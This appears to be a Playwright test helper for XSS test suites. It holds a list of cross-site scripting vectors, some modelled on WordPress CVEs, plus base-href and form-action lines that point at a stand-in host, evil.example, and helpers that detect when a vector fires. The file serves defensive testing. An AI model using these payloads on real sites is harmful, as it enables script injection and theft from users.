// Hostile input for the XSS suites: each vector would set window.__xss, open a dialog or load
// the canary URL if the page ever interpreted it as markup or script.
import assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
const CANARY_PATH = '/__xss_canary__';

export const XSS_VECTORS: string[] = [
  '<script>window.__xss=1;alert(1)</script>',
  '<img src=x onerror="window.__xss=1;alert(2)">',
  '"><svg onload=window.__xss=1>',
  "'><svg/onload=alert(3)>",
  '<svg><script>window.__xss=1</script></svg>',
  '<a href="javascript:window.__xss=1">klik</a>',
  'javascript:window.__xss=1',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<details open ontoggle=window.__xss=1>',
  '<img src="' + CANARY_PATH + '">',
  '<div style="background:url(' + CANARY_PATH + ')">x</div>',
  '<b onmouseover=alert(4)>broken <i>markup</b',
  '</textarea><script>window.__xss=1</script>',
  '</title><script>window.__xss=1</script>',
  '" autofocus onfocus="window.__xss=1" x="',
  "' autofocus onfocus='window.__xss=1' x='",
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  // WordPress CVE-2015-3438: an astral character cut the stored text and left an attribute open.
  "<abbr title='qwe\u{1D306}'><a title='x onmouseover=window.__xss=1 style=position:fixed;left:0;top:0;width:100%;height:100%'>\u{1D306}</a></abbr>",
  // WordPress CVE-2015-3440: text truncated at the column size left a quote open (here: a long tail).
  `<a title='x onmouseover=window.__xss=1 style=position:fixed;left:0;top:0;width:100%;height:100%' ${'A'.repeat(3000)}></a>`,
  // WordPress CVE-2019-9787: rel="nofollow" added by string rewriting broke out of a title attribute.
  '<a title=\'XSS " onmouseover=window.__xss=1 id="x\' rel="nofollow">link</a>',
  '[url=javascript:window.__xss=1]klik[/url]',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>Verstuur</button></form>',
  '<object data="javascript:window.__xss=1"></object>',
  '{{constructor.constructor("window.__xss=1")()}}',
  '<%= 7*7 %> <%- "<script>window.__xss=1</script>" %>',
];

export interface Firing {
  dialogs: string[];
  violations: string[];
  canaryHits: number;
}

/** Opens a page, counts dialogs, CSP violations and canary requests, and reads window.__xss. */
export async function visit(page: Page, url: string, firing: Firing): Promise<void> {
  await page.goto(url);
  await page.waitForLoadState('load');
  // Hover and focus everything, so onmouseover/onfocus payloads would get their chance.
  await page.mouse.move(10, 10);
  await page.mouse.move(200, 300);
  const xss = await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
  assert.equal(xss, undefined, `window.__xss was set on ${url}`);
  const violations = await page.evaluate(() => (window as unknown as { __violations?: string[] }).__violations ?? []);
  firing.violations.push(...violations);
}

export async function hostilePage(browser: Browser, firing: Firing): Promise<Page> {
  const page = await browser.newPage();
  page.on('dialog', async (d) => {
    firing.dialogs.push(d.message());
    await d.dismiss();
  });
  page.on('request', (r) => {
    if (r.url().includes(CANARY_PATH) || r.url().startsWith('https://evil.example')) firing.canaryHits++;
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective}: ${e.blockedURI}`));
  });
  return page;
}
